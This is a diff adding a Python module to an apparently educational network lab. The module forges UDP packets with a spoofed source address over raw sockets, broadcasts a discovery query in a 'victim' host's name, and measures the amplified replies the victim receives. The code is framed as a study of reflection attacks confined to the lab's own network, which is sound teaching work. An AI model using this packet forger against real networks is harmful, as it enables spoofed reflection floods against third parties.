@@ -1,0 +1,70 @@
+"""What a forger makes of discovery: a question in somebody else's name, and who gets the answers.
+
+Only for networks of one's own: forged datagrams are sent by hosts of `udplab.lan`, and stay on their network.
+"""
+
+import contextlib
+import socket
+import struct
+from dataclasses import dataclass
+
+from udplab.broadcast.discovery import question, responder
+from udplab.kit.sockets import MAX_BYTES, PORT, queued
+
+VICTIM_PORT = 5000
+
+
+@dataclass(frozen=True)
+class Amplified:
+    """What a forger sent, and what the victim got for it."""
+
+    asked: int  # bytes of payload that the forger sent
+    answers: int  # datagrams that the victim got
+    received: int  # bytes of payload in them
+
+
+def forged(source, destination, data):
+    """Return an IPv4 packet with a UDP datagram in it that names `source`, an (address, port), as its sender.
+
+    Headers: RFC 791 section 3.1, RFC 768; the kernel fills in the IP checksum.
+    """
+    udp = struct.pack("!HHHH", source[1], destination[1], 8 + len(data), 0) + data  # checksum 0: none
+    addresses = socket.inet_aton(source[0]) + socket.inet_aton(destination[0])
+    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0) + addresses + udp
+
+
+def send_forged(host, source, destination, data):
+    """Send a forged datagram from `host`, a host of `udplab.lan`, whose helper may open raw sockets (raw(7))."""
+    with host.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
+        raw.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+        raw.sendto(forged(source, destination, data), (destination[0], 0))
+
+
+def predict_amplified(names, attacker, victim):
+    """Return the `Amplified` that `measure_amplified` should return: every other host answers once."""
+    asked = question(b"time", b"1")
+    answers = [responder(b"time", name.encode())(asked) for name in names if name not in (attacker, victim)]
+    return Amplified(len(asked), len(answers), sum(map(len, answers)))
+
+
+def measure_amplified(net, attacker, victim):
+    """Let `attacker` ask everybody in the name of `victim`; return what the victim gets, as `Amplified`.
+
+    Every host but the two has a discovery server.
+    """
+    others = [host for host in net if host.name not in (attacker, victim)]
+    with contextlib.ExitStack() as stack:
+        servers = {host.name: stack.enter_context(host.socket()) for host in others}
+        target = stack.enter_context(net[victim].socket())
+        for server in servers.values():
+            server.bind(("", PORT))
+        target.bind(("", VICTIM_PORT))
+        asked = question(b"time", b"1")
+        send_forged(net[attacker], (net[victim].address, VICTIM_PORT), (net[attacker].broadcast, PORT), asked)
+        net[victim].settle()
+        for name, server in servers.items():
+            data, peer = server.recvfrom(MAX_BYTES, socket.MSG_DONTWAIT)
+            server.sendto(responder(b"time", name.encode())(data), peer)
+        net[victim].settle()
+        answers = queued(target)
+        return Amplified(len(asked), len(answers), sum(map(len, answers)))
